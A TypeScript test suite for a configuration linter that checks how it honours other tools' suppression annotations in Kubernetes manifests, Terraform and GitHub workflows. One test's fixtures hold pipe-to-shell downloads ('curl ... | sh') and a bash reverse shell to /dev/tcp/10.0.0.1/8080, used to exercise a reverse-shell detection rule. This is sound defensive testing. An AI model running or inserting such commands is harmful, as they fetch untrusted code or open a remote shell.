import assert from 'node:assert/strict';
import { allRules } from '../../server/src/rules/index.ts';
import { workspaceOf } from '../support/workspace.ts';

const manifest = (annotations: readonly string[], inTemplate: readonly string[] = []): string => `apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
  annotations:
    team: shop
${annotations.map((line) => `    ${line}\n`).join('')}spec:
  selector: { matchLabels: { app: web } }
  template:
    metadata:
      labels: { app: web }
      annotations:
        team: shop
${inTemplate.map((line) => `        ${line}\n`).join('')}    spec:
      containers:
        - name: web
          image: registry.example.com/web:latest
          securityContext:
            privileged: true
`;

const rules = allRules.filter(({ id }) => ['privileged-container', 'image-tag-latest'].includes(id));

async function accepted(text: string): Promise<readonly (readonly [string, string])[]> {
  const { engine } = await workspaceOf({ 'web.yaml': text }, rules);
  return engine
    .findingsOf('file:///workspace/web.yaml')
    .flatMap(({ finding: { rule, suppression } }) => (suppression ? [[rule.id, suppression.reason] as const] : []));
}

describe('Annotations that accept findings', () => {
  it('name one rule, with a reason', async () => {
    assert.deepEqual(await accepted(manifest(['cnmaturity/ignore.privileged-container: reads the network'])), [
      ['privileged-container', 'reads the network'],
    ]);
    assert.deepEqual(await accepted(manifest(['cnmaturity/ignore.privileged-container: until 2027-01-31 reads the network'])), [
      ['privileged-container', 'reads the network'],
    ]);
  });

  it('speak for the Pods where they stand on these', async () => {
    assert.deepEqual(await accepted(manifest([], ['cnmaturity/ignore.privileged-container: x'])), [['privileged-container', 'x']]);
  });

  it('speak for their own object only', async () => {
    const other = manifest([]).replaceAll('web', 'api');
    assert.equal((await accepted(`${manifest(['cnmaturity/ignore.privileged-container: x'])}---\n${other}`)).length, 1);
  });

  it('of other tools are honoured by the checks that look at the same', async () => {
    const both = ['image-tag-latest', 'privileged-container'];
    const cases: readonly (readonly [string, readonly string[]])[] = [
      ['ignore-check.kube-linter.io/privileged-container: x', ['privileged-container']],
      ['ignore-check.kube-linter.io/latest-tag: x', ['image-tag-latest']],
      ['kube-linter.io/ignore-all: x', both],
      ['kube-score/ignore: container-image-tag,container-security-context-privileged', both],
      ['polaris.fairwinds.com/runAsPrivileged-exempt: "true"', ['privileged-container']],
      ['polaris.fairwinds.com/runAsPrivileged-exempt: "false"', []],
      ['polaris.fairwinds.com/exempt: "true"', both],
      ['checkov.io/skip1: CKV_K8S_16=reads the network', ['privileged-container']],
      ['checkov.io/skip: CKV_K8S_999=x', []],
      ['example.com/ignore: privileged-container', []],
    ];
    for (const [annotation, expected] of cases)
      assert.deepEqual(
        (await accepted(manifest([annotation]))).map(([id]) => id),
        expected,
        annotation,
      );
  });
});

describe('Marks of other tools', () => {
  const open = async (path: string, text: string, ids: readonly string[]): Promise<readonly string[]> => {
    const test = await workspaceOf(
      { [path]: text },
      allRules.filter(({ id }) => ids.includes(id)),
    );
    return test.findings().map(({ finding }) => finding.rule.id);
  };
  const ecr = (before: string, inside = '', behind = ''): string =>
    `${before}resource "aws_ecr_repository" "app" {${behind}\n${inside}  name                 = "app"\n  image_tag_mutability = "MUTABLE"\n}\n`;
  const inHcl = async (text: string): Promise<number> => (await open('main.tf', text, ['ecr-immutable-tags'])).length;

  it('of Trivy speak for what begins below them or in their line', async () => {
    assert.equal(await inHcl(ecr('')), 1);
    for (const mark of [
      '#trivy:ignore:AVD-AWS-0031',
      '# tfsec:ignore:AWS-0031 on purpose',
      '// trivy:ignore:AWS-0001 trivy:ignore:AWS-0031',
      '#trivy:ignore:*',
    ])
      assert.equal(await inHcl(ecr(`${mark}\n`)), 0, mark);
    assert.equal(await inHcl(ecr('', '', ' #trivy:ignore:AWS-0031')), 0);
    assert.equal(await inHcl(ecr('#trivy:ignore:AWS-0031\n#trivy:ignore:AWS-0001\n')), 0);
    assert.equal(await inHcl(ecr('#trivy:ignore:AWS-0001\n')), 1);
    assert.equal(await inHcl(ecr('variable "a" { description = "#trivy:ignore:AWS-0031" }\n')), 1);
  });

  it('of Trivy speak for the line below the last of several, and for no other', async () => {
    assert.equal(await inHcl(ecr('#trivy:ignore:AWS-0031\n\n')), 1);
    assert.equal(await inHcl(ecr('#trivy:ignore:AWS-0031\n# a note\n')), 1);
    assert.equal(await inHcl(ecr('#trivy:ignore:AWS-0031\n#trivy:ignore:AWS-0001\n# a note\n')), 1);
    assert.equal(await inHcl(ecr('', '  #trivy:ignore:AWS-0031\n')), 1, 'that is the attribute of the name');
    const inBlock = 'resource "aws_ecr_repository" "app" {\n  #trivy:ignore:AWS-0031\n  image_tag_mutability = "MUTABLE"\n}\n';
    assert.equal(await inHcl(inBlock), 0);
    assert.equal(await inHcl(inBlock.replaceAll('\n', '\r\n')), 0);
  });

  it('of Trivy may stand for several checks', async () => {
    for (const [id, count] of [
      ['AWS-*', 0],
      ['AVD-AWS-003*', 0],
      ['aws-ecr-*', 0],
      ['AZU-*', 1],
      ['aws-ecr', 1],
    ] as const)
      assert.equal(await inHcl(ecr(`#trivy:ignore:${id}\n`)), count, id);
  });

  it('of Trivy with conditions hold only where these are known to hold', async () => {
    assert.equal(await inHcl(ecr('#trivy:ignore:AWS-0031:exp:2026-12-31\n')), 0);
    assert.equal(await inHcl(ecr('#trivy:ignore:AWS-0031:exp:soon\n')), 1);
    assert.equal(await inHcl(ecr('#trivy:ignore:AWS-0031:ws:dev\n')), 1);
    assert.equal(await inHcl(ecr('#trivy:ignore:AWS-0031[name=other]\n')), 1);
  });

  it('of checkov speak for the block that they stand in', async () => {
    assert.equal(await inHcl(ecr('', '  #checkov:skip=CKV_AWS_51:on purpose\n')), 0);
    assert.equal(await inHcl(ecr('', '  # checkov:skip=CKV_AWS_1,CKV_AWS_51\n')), 0);
    assert.equal(await inHcl(ecr('#checkov:skip=CKV_AWS_51:above it means nothing\n')), 1);
    assert.equal(await inHcl(ecr('', '', ' #checkov:skip=CKV_AWS_51')), 1);
  });

  it('of tflint speak for a line, a header or from the first line on for the file', async () => {
    const variable = (before: string, behind = ''): string => `${before}variable "size" {${behind}\n  description = "How many."\n}\n`;
    const inFile = async (text: string): Promise<number> => (await open('main.tf', text, ['tf-variable-untyped'])).length;
    assert.equal(await inFile(variable('')), 1);
    assert.equal(await inFile(variable('# tflint-ignore: terraform_typed_variables\n')), 0);
    assert.equal(await inFile(variable('', ' # tflint-ignore: terraform_typed_variables # any number')), 0);
    assert.equal(await inFile(variable('# tflint-ignore: all\n')), 0);
    assert.equal(await inFile(variable('# tflint-ignore-file: terraform_typed_variables\n\n')), 0);
    assert.equal(await inFile(variable('\n# tflint-ignore-file: terraform_typed_variables\n\n')), 1);
    assert.equal(await inFile(variable('# tflint-ignore: terraform_typed_variables\n\n')), 1);
    assert.equal(await inFile(variable('# tflint-ignore: terraform_typed_variables as any number does\n')), 1);
    assert.equal(await inFile(variable('# tflint-ignore:terraform_typed_variables\n')), 1);
    const json = (note: string): string => JSON.stringify({ '//': note, variable: { size: { description: 'How many.' } } });
    assert.equal((await open('main.tf.json', json('Sizes'), ['tf-variable-untyped'])).length, 1);
    assert.equal((await open('main.tf.json', json('tflint-ignore-file: terraform_typed_variables'), ['tf-variable-untyped'])).length, 0);
    assert.equal(
      (await open('main.tf.json', json('see tflint-ignore-file: terraform_typed_variables'), ['tf-variable-untyped'])).length,
      1,
    );
  });

  it('of zizmor speak for their line', async () => {
    const workflow = (mark: string): string =>
      `on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: a/b@main${mark}\n      - uses: c/d@main\n`;
    const found = async (mark: string): Promise<number> =>
      (await open('.github/workflows/ci.yaml', workflow(mark), ['action-not-pinned-sha'])).length;
    assert.equal(await found(''), 2);
    assert.equal(await found(' # zizmor: ignore[unpinned-uses]'), 1);
    assert.equal(await found(' # zizmor: ignore[artipacked]'), 2);
    assert.equal(await found(' # pinned by hand # zizmor: ignore[artipacked, unpinned-uses,] for now'), 1);
    for (const wrong of [
      '#zizmor: ignore[unpinned-uses]',
      '# zizmor:ignore[unpinned-uses]',
      '# zizmor: ignore[]',
      '# zizmor: ignore[unpinned-uses]x',
    ])
      assert.equal(await found(` ${wrong}`), 2, wrong);
  });

  it('of zizmor speak for the step, the job outside of its steps, or the entry around them', async () => {
    const mark = (ids: string): string => `# zizmor: ignore[${ids}]`;
    const text = (at: Readonly<Partial<Record<'top' | 'on' | 'job' | 'step' | 'between', string>>>): string =>
      [
        at.top ?? '# a workflow',
        `on: pull_request_target ${at.on ?? ''}`,
        'jobs:',
        `  a: ${at.job ?? ''}`,
        '    runs-on: self-hosted',
        '    steps:',
        '      - name: first',
        `        ${at.step ?? '# a step'}`,
        '        uses: actions/checkout@main',
        '        with: { ref: "${{ github.event.pull_request.head.sha }}" }',
        `    ${at.between ?? '# more'}`,
        '      - uses: c/d@main',
        '',
      ].join('\n');
    const ids = ['action-not-pinned-sha', 'dangerous-trigger', 'self-hosted-runner'];
    const found = async (at: Parameters<typeof text>[0]): Promise<readonly string[]> =>
      (await open('.github/workflows/ci.yaml', text(at), ids)).toSorted();
    const all = ['action-not-pinned-sha', 'action-not-pinned-sha', 'dangerous-trigger', 'self-hosted-runner'];
    assert.deepEqual(await found({}), all);
    const every = mark('unpinned-uses,dangerous-triggers,self-hosted-runner');
    assert.deepEqual(await found({ top: every }), all, 'above it, it means nothing');
    assert.deepEqual(
      await found({ on: every }),
      all.filter((id) => id !== 'dangerous-trigger'),
    );
    assert.deepEqual(
      await found({ job: every }),
      all.filter((id) => id !== 'self-hosted-runner'),
    );
    assert.deepEqual(await found({ step: every }), ['action-not-pinned-sha', 'self-hosted-runner']);
    assert.deepEqual(await found({ between: every }), all, 'between two steps it is in neither');
  });

  it('of checkov in a workflow speak for the step around them', async () => {
    const text = manifest([]).replace('        - name: web', '        # checkov:skip=CKV_K8S_16:in a list\n        - name: web');
    assert.deepEqual(await open('web.yaml', text, ['privileged-container']), []);
    const inItem = manifest([]).replace('          image:', '          # checkov:skip=CKV_K8S_16:in an item\n          image:');
    assert.deepEqual(await open('web.yaml', inItem, ['privileged-container']), []);
  });

  it('of checkov speak for no other step and no other job', async () => {
    const workflow = (inStep: string, inJob: string): string =>
      `on: push\njobs:\n  a:\n    ${inJob}\n    runs-on: ubuntu-24.04\n    steps:\n      - run: curl https://a.example | sh\n        ${inStep}\n      - run: curl https://b.example | bash\n  b:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: curl https://c.example | sh\n`;
    const rule = allRules.find(({ id, equivalents }) => id === 'reverse-shell' && equivalents['checkov'] !== undefined);
    assert.ok(rule);
    const [check = ''] = rule.equivalents['checkov'] ?? [];
    const shells = (text: string): string => text.replace(/curl (\S+) \| (?:ba)?sh/g, 'bash -i >& /dev/tcp/10.0.0.1/8080 0>&1');
    const count = async (inStep: string, inJob: string): Promise<number> =>
      (await open('.github/workflows/ci.yaml', shells(workflow(inStep, inJob)), [rule.id])).length;
    assert.equal(await count('# one', '# job'), 3);
    assert.equal(await count(`# checkov:skip=${check}:why`, '# job'), 2);
    assert.equal(await count('# one', `# checkov:skip=${check}:why`), 1);
  });

  it('in texts are none', async () => {
    const text = manifest(['note: |', '  # checkov:skip=CKV_K8S_16:in a text', '  # cnmaturity-ignore-block: privileged-container']);
    assert.deepEqual(await open('web.yaml', text, ['privileged-container']), ['privileged-container']);
  });
});
